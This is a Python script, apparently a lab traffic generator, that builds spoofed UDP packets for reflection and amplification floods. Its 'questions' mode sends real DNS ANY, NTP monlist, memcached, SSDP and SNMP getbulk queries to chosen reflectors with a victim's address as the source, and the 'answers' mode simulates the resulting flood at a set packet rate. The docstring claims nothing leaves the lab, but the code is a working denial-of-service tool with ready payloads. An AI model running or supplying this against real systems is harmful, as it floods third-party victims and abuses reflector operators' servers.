"""Amplification: packets with other people's source addresses.

`reflect.py answers VICTIM SECONDS SEED KIND RATE NET COUNT`  what COUNT reflectors of NET would send VICTIM, RATE packets a second
`reflect.py questions VICTIM SECONDS SEED KIND RATE HOST,HOST` questions in VICTIM's name to real reflectors, whose answers go to VICTIM
KIND: dns, ntp, memcached, ssdp, snmp, chargen, cldap. Nothing leaves the lab: it runs in a namespace without a way out.
"""

import ipaddress
import os
import random
import socket
import struct
import sys
import time

PORTS = {"dns": 53, "ntp": 123, "memcached": 11211, "ssdp": 1900, "snmp": 161, "chargen": 19, "cldap": 389}
# payload bytes of one answer packet, and how many packets one question brings
ANSWERS = {"dns": ((900, 4000), (1, 1)), "ntp": ((440, 440), (5, 100)), "memcached": ((1400, 1400), (20, 200)), "ssdp": ((270, 400), (4, 10)),
           "snmp": ((600, 1400), (1, 4)), "chargen": ((200, 1400), (1, 2)), "cldap": ((1500, 3000), (1, 1))}
ANY = b"\x12\x34\x01\x00\0\x01\0\0\0\0\0\x01" + b"\x04long\x03lab\x07example\0" + b"\0\x10\0\x01" + b"\0\0\x29\x10\0\0\0\0\0\0\0"
BULK = bytes.fromhex("302602010104067075626c6963a519020101020100020132300e300c06082b060102010201000500")
QUESTIONS = {"dns": ANY, "ntp": b"\x17\0\x03\x2a" + bytes(4), "memcached": b"\0\x01\0\0\0\x01\0\0get bulk\r\n", "snmp": BULK,
             "ssdp": b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: ssdp:all\r\nMX: 1\r\nMAN: \"ssdp:discover\"\r\n\r\n"}
with open("/sys/class/net/eth0/mtu") as mtu:
    FRAGMENT_BYTES = (int(mtu.read()) - 20) // 8 * 8


def send(end, src, dst, src_port, dst_port, payload, mark):
    """One UDP datagram with a source of our choosing, in fragments where it is long."""
    body = struct.pack(">HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    for at in range(0, len(body), FRAGMENT_BYTES):
        piece = body[at:at + FRAGMENT_BYTES]
        more = 0x2000 if at + FRAGMENT_BYTES < len(body) else 0
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(piece), mark & 0xFFFF, more | at // 8, 54, 17, 0, src, dst)
        end.sendto(head + piece, (socket.inet_ntoa(dst), 0))


def pace(began, sent, rate):
    """Waits until packet number `sent` is due."""
    ahead = began + sent / rate - time.monotonic()
    if ahead > 0.002:
        time.sleep(ahead)


def answers(victim, seconds, rng, kind, rate, net, count):
    """A few packets from each of many reflectors, over and over."""
    end, dst = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), socket.inet_aton(victim)
    network = ipaddress.ip_network(net)
    sources = [network[rng.randrange(1, network.num_addresses - 1)].packed for _ in range(count)]
    asked_from = [rng.randint(1024, 65000) for _ in range(rng.choice([1, 4, 64, 4000]))] if rng.random() < 0.7 else [80, 443, 53]
    (low, high), burst = ANSWERS[kind]
    filler, sent, began = os.urandom(8192), 0, time.monotonic()
    while time.monotonic() < began + seconds:
        src, port = rng.choice(sources), rng.choice(asked_from)
        for _ in range(rng.randint(*burst)):
            sent += 1
            send(end, src, dst, PORTS[kind], port, filler[:rng.randint(low, high)], rng.randrange(1 << 16))
            pace(began, sent, rate)


def questions(victim, seconds, rng, kind, rate, hosts):
    """Real questions; the answers go to the victim."""
    end, src = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), socket.inet_aton(victim)
    targets, kept = [socket.inet_aton(socket.gethostbyname(host)) for host in hosts.split(",")], rng.random() < 0.5
    port, sent, began = rng.randint(1024, 65000), 0, time.monotonic()
    while time.monotonic() < began + seconds:
        sent += 1
        send(end, src, rng.choice(targets), port if kept else rng.randint(1024, 65000), PORTS[kind], QUESTIONS[kind], rng.randrange(1 << 16))
        pace(began, sent, rate)


def main():
    """Sends until the time is over."""
    way, victim, seconds, seed, kind, rate, where, *more = sys.argv[1:]
    rng = random.Random(seed)
    if way == "answers":
        answers(victim, float(seconds), rng, kind, float(rate), where, int(more[0]))
    else:
        questions(victim, float(seconds), rng, kind, float(rate), where)


main()
